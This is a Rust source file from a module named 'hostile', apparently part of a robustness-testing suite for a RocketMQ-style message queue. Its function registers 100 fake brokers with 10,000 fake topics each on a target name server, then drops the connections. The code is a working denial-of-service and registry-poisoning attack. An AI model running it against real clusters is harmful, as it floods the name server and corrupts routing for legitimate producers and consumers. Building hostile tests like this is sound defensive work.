//! Brokers that are none.

use std::io;

use ringmq_base::checksum::body_crc;
use ringmq_remoting::{codes::request, encode::Value};

use super::frames::{hold, reset_on_close};
use crate::hostile::{attacker::Target, wire::Link};

const BROKERS: usize = 100;
const TOPICS: usize = 10_000;

fn registration(broker: usize) -> Vec<u8> {
    let mut body = "{\"filterServerList\":[],\
        \"topicConfigSerializeWrapper\":{\"dataVersion\":{\"counter\":1,\"timestamp\":1},\
        \"topicConfigTable\":{"
        .to_owned();
    for topic in 0..TOPICS {
        let comma = if topic == 0 { "" } else { "," };
        let name = format!("false_{broker}_{topic}");
        body += &format!(
            "{comma}\"{name}\":{{\"order\":false,\"perm\":6,\"readQueueNums\":4,\
                \"topicFilterType\":\"SINGLE_TAG\",\"topicName\":\"{name}\",\
                \"topicSysFlag\":0,\"writeQueueNums\":4}}"
        );
    }
    body += "}}}";
    body.into_bytes()
}

/// 100 brokers with 10,000 topics each register and are gone.
pub fn false_brokers(target: &Target) -> io::Result<()> {
    let mut held = Vec::new();
    let mut pace = target.pace(25.0);
    for broker in 0..BROKERS {
        let body = registration(broker);
        let (name, address) = (format!("false-{broker}"), format!("10.0.0.{broker}:10911"));
        let fields = [
            ("brokerName", Value::Str(&name)),
            ("brokerAddr", Value::Str(&address)),
            ("clusterName", Value::Str("false")),
            ("haServerAddr", Value::Str("")),
            ("brokerId", Value::Int(0)),
            ("compressed", Value::Bool(false)),
            ("bodyCrc32", Value::Int(body_crc(&body).into())),
        ];
        let mut link = Link::open(target.names)?;
        reset_on_close(link.stream())?;
        target.answered(&link.call(request::REGISTER_BROKER, &fields, &body));
        held.push(link);
        pace.wait();
    }
    hold(0.2);
    Ok(())
}
